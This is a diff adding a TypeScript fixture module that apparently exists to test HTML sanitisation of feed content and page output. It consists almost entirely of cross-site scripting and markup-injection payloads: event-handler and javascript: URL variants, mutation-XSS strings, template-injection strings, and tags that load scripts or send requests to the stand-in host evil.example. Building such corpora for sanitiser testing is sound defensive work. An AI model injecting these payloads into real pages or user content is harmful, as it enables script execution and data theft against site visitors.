@@ -1,0 +1,48 @@
+/** The name that a payload calls when it runs, and the site that it would tell. */
+const STRIKE = 'alert(1)'
+const EVIL = '//evil.example/'
+
+const HANDLERS = ['onclick', 'onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onpointerenter', 'onbeforeinput', 'oncontentvisibilityautostatechange'] as const
+const CARRIERS = ['img src=x', 'svg', 'a href=#', 'p tabindex=1 autofocus', 'details open', 'input autofocus', 'body', 'video src=x', 'table background=x', 'strong style=animation:x', 'marquee', 'select autofocus'] as const
+/** Each handler on each kind of element, in the spellings that parsers disagree on. */
+const HANDLED = CARRIERS.flatMap((carrier, row) =>
+  HANDLERS.map((handler, place) => {
+    const spelled = [`${handler}=${STRIKE}`, `${handler}="${STRIKE}"`, `${handler.toUpperCase()}='${STRIKE}'`, `${handler}\n=\n${STRIKE}`, `/${handler}=${STRIKE}/`, `x="y"${handler}=${STRIKE}`, `${handler}=\`${STRIKE}\``][(row + place) % 7]
+    return `<${carrier} ${spelled}>`
+  }),
+)
+
+const ADDRESSES = [
+  `javascript:${STRIKE}`, `JaVaScRiPt:${STRIKE}`, `java\tscript:${STRIKE}`, `java\nscript:${STRIKE}`, `\u0001javascript:${STRIKE}`, ` javascript:${STRIKE}`, `&#106;avascript:${STRIKE}`, `&#x6A;&#x61;vascript:${STRIKE}`, `javascript&colon;${STRIKE}`, `javascript&NewLine;:${STRIKE}`, `vbscript:msgbox(1)`,
+  `data:text/html,<script>${STRIKE}</script>`, 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', `feed:javascript:${STRIKE}`, `view-source:javascript:${STRIKE}`, `livescript:${STRIKE}`, `jar:javascript:${STRIKE}!/`, `blob:javascript:${STRIKE}`, `${EVIL}x`, `\\\\evil.example\\x`, `/${EVIL}x`, 'ftp://evil.example/x', 'file:///etc/passwd', `https://user@evil.example:80`,
+] as const
+const LINKED = ADDRESSES.map((address) => `<a href="${address}">Apply here</a>`)
+
+const SCRIPTS = [
+  `<script>${STRIKE}</script>`, `<SCRIPT>${STRIKE}</SCRIPT>`, `<script src=${EVIL}x.js></script>`, `<script\n>${STRIKE}</script\n>`, `<script/x>${STRIKE}</script>`, `<scr<script>ipt>${STRIKE}</scr</script>ipt>`, `<script>/*</p>*/${STRIKE}//`, `<script type=module>${STRIKE}</script>`, `<script type="text/vbscript">msgbox(1)</script>`, `<script async src="data:text/javascript,${STRIKE}"></script>`,
+  `<noscript><p title="</noscript><img src=x onerror=${STRIKE}>">`, `<template><script>${STRIKE}</script></template>`, `<svg><script>${STRIKE}</script></svg>`, `<svg><script href="data:text/javascript,${STRIKE}" /></svg>`, `<math><script>${STRIKE}</script></math>`, `</p><script>${STRIKE}</script><p>`, `<!--><script>${STRIKE}</script>-->`, `<!--<script>-->${STRIKE}<!--</script>-->`, `<![CDATA[<script>${STRIKE}</script>]]>`, `<?xml version="1.0"?><script>${STRIKE}</script>`,
+] as const
+
+/** Text that is harmless where it is read first, and markup where it is read again. */
+const READ_TWICE = [
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${STRIKE}&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${STRIKE}>`, `<svg></p><style><a id="</style><img src=1 onerror=${STRIKE}>">`, `<math></br><style><!--</style><img src onerror=${STRIKE}>-->`, `<svg><p><style><g title="</style><img src onerror=${STRIKE}>">`, `<math><annotation-xml encoding="text/html"><img src=x onerror=${STRIKE}></annotation-xml></math>`, `<svg><foreignObject><iframe srcdoc="<script>parent.${STRIKE}</script>"></iframe></foreignObject></svg>`, `<svg><desc><img src=x onerror=${STRIKE}></desc></svg>`, `<svg><title><a id="</title><img src=x onerror=${STRIKE}>"></a></title></svg>`,
+  `<select><template><img src=x onerror=${STRIKE}></template></select>`, `<select><style></select><img src=x onerror=${STRIKE}></style>`, `<table><a><td><img src=x onerror=${STRIKE}></a></table>`, `<p><table><tr><p><svg onload=${STRIKE}></table>`, `<xmp><p title="</xmp><img src=x onerror=${STRIKE}>">`, `<textarea><p title="</textarea><img src=x onerror=${STRIKE}>">`, `<title><p title="</title><img src=x onerror=${STRIKE}>">`, `<noembed><p title="</noembed><img src=x onerror=${STRIKE}>">`, `<noframes><p title="</noframes><img src=x onerror=${STRIKE}>">`, `<iframe><p title="</iframe><img src=x onerror=${STRIKE}>">`, `<plaintext><img src=x onerror=${STRIKE}>`, `<listing>&lt;img src=x onerror=${STRIKE}&gt;</listing>`, `<p>&lt;img src=x onerror=${STRIKE}&gt;</p>`, `<p>&amp;lt;img src=x onerror=${STRIKE}&amp;gt;</p>`, `<p title='--><img src=x onerror=${STRIKE}>'>x</p>`, `<!-- --!><img src=x onerror=${STRIKE}>`, `<!-- ><img src=x onerror=${STRIKE}> -->`, `<!-<img src=x onerror=${STRIKE}>`, `</ <img src=x onerror=${STRIKE}>`, `<p a="<svg onload=${STRIKE}>" b='">'>x</p>`, `<div id="x\u0000"><img src=x o\u0000nerror=${STRIKE}>`,
+] as const
+
+/** No script, and yet a request to somebody else, another page or another form. */
+const SENDING = [
+  `<img src=${EVIL}x.png>`, `<img srcset="${EVIL}x.png 2x">`, `<picture><source srcset=${EVIL}x.png><img src=x></picture>`, `<video poster=${EVIL}x.png>`, `<audio src=${EVIL}x.mp3 autoplay>`, `<track src=${EVIL}x.vtt>`, `<link rel=stylesheet href=${EVIL}x.css>`, `<link rel=prefetch href=${EVIL}x>`, `<link rel=dns-prefetch href=${EVIL}>`, `<link rel=preload as=image href=${EVIL}x.png>`, `<link rel=manifest href=${EVIL}m.json>`, `<style>@import "${EVIL}x.css";</style>`, `<style>p{background:url(${EVIL}x.png)}</style>`, `<p style="background:url(${EVIL}x.png)">x</p>`, `<p style="list-style:url('${EVIL}x.png')">x</p>`, `<table background=${EVIL}x.png><tr><td background=${EVIL}y.png>x</table>`, `<body background=${EVIL}x.png>`, `<iframe src=${EVIL}></iframe>`, `<frameset><frame src=${EVIL}></frameset>`, `<object data=${EVIL}x.swf></object>`, `<embed src=${EVIL}x.swf>`, `<applet code=x archive=${EVIL}x.jar></applet>`, `<meta http-equiv=refresh content="0;url=${EVIL}">`, `<meta http-equiv=refresh content="0;url=javascript:${STRIKE}">`, `<meta http-equiv=set-cookie content="x=y">`, `<base href=${EVIL}>`, `<form action=${EVIL}><input name=x><button>Apply</button></form>`, `<form action=javascript:${STRIKE}><input type=submit></form>`, `<button formaction=javascript:${STRIKE}>x</button>`, `<input type=image src=${EVIL}x.png>`, `<isindex action=${EVIL}>`, `<bgsound src=${EVIL}x.mid>`, `<svg><image href=${EVIL}x.png /></svg>`, `<svg><use href=${EVIL}x.svg#a /></svg>`, `<svg><feImage href=${EVIL}x.png /></svg>`, `<svg><a href=javascript:${STRIKE}><text>x</text></a></svg>`, `<math href=javascript:${STRIKE}>x</math>`, `<a ping=${EVIL} href=/>x</a>`, `<q cite=${EVIL}>x</q>`, `<portal src=${EVIL}></portal>`,
+] as const
+
+/** SVG that moves an attribute to where it should not be, and elements that take the names of the page's own. */
+const MOVING = [
+  `<svg><animate onbegin=${STRIKE} attributeName=x dur=1s>`, `<svg><set attributeName=href to=javascript:${STRIKE} /></svg>`, `<svg><a><animate attributeName=href values=javascript:${STRIKE} /><text>x</text></a></svg>`, `<svg><animateTransform onbegin=${STRIKE}>`, `<svg><discard onbegin=${STRIKE}>`, `<svg/onload=${STRIKE}>`, `<svg onload=${STRIKE}//`, `<svg><handler type="text/javascript">${STRIKE}</handler></svg>`, `<svg xmlns:x="http://www.w3.org/1999/xlink"><a x:href="javascript:${STRIKE}">x</a></svg>`, `<img name=body>`, `<form id=documentElement><input name=attributes></form>`, `<a id=defaultView><a id=defaultView name=hit href=/>`, `<form name=location>`, `<img id=trustedTypes name=createPolicy>`, `<input id=getElementById>`, `<iframe name=self srcdoc="">`, `<p id=root>x</p>`, `<p id=main class=__proto__>x</p>`, `<slot name=x></slot>`, `<p is=x-y>x</p>`, `<custom-element onfocus=${STRIKE} tabindex=1 autofocus>`, `<dialog open onclose=${STRIKE}>x</dialog>`, `<p popover id=p onbeforetoggle=${STRIKE}>x</p><button popovertarget=p>x</button>`, `<p contenteditable onfocus=${STRIKE}>x</p>`, `<keygen autofocus onfocus=${STRIKE}>`, `<p draggable=true ondragstart=${STRIKE}>x</p>`, `<object type="text/html" data="data:text/html,<script>${STRIKE}</script>">`, `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${STRIKE}'/>">`, `<iframe srcdoc="<img src=x onerror=parent.${STRIKE}>">`, `<iframe src=javascript:${STRIKE}>`,
+] as const
+
+/** As long as DOMPurify's own collection and longer: what a feed's markup may hold. */
+export const HOSTILE_MARKUP: readonly string[] = [...HANDLED, ...LINKED, ...SCRIPTS, ...READ_TWICE, ...SENDING, ...MOVING]
+
+/** Against the places where our own pages write a text: an attribute, a title, structured data, the state that a page brings along, an address, a style. */
+export const HOSTILE_TEXT: readonly string[] = [
+  `"><script>${STRIKE}</script>`, `'><img src=x onerror=${STRIKE}>`, `" onfocus=${STRIKE} autofocus x="`, `' onmouseover='${STRIKE}`, `</script><script>${STRIKE}</script>`, `</script\u0020x><svg onload=${STRIKE}>`, `</title><script>${STRIKE}</script>`, `</textarea><script>${STRIKE}</script>`, `</style><script>${STRIKE}</script>`, `--><script>${STRIKE}</script>`, `]]><script>${STRIKE}</script>`, `\\"};${STRIKE};//`, `\u2028${STRIKE}\u2029`, `\\u003cscript\\u003e${STRIKE}\\u003c/script\\u003e`, `{"@type":"x","y":"</script><svg onload=${STRIKE}>"}`, `\${${STRIKE}}`, `{{constructor.constructor('${STRIKE}')()}}`, `#{${STRIKE}}`, `<%= ${STRIKE} %>`, `javascript:${STRIKE}`, `&lt;script&gt;${STRIKE}&lt;/script&gt;`, `&#60;img src=x onerror=${STRIKE}&#62;`, `%3Cscript%3E${STRIKE}%3C/script%3E`, `\u00abscript\u00bb${STRIKE}`, `\uff1cscript\uff1e${STRIKE}\uff1c/script\uff1e`, `+ADw-script+AD4-${STRIKE}+ADw-/script+AD4-`, `<script>${STRIKE}`, `<!--`, `url(${EVIL}x.png)`, `<svg onload=${STRIKE}`, `expression(${STRIKE})`, `[link](javascript:${STRIKE})`,
+]
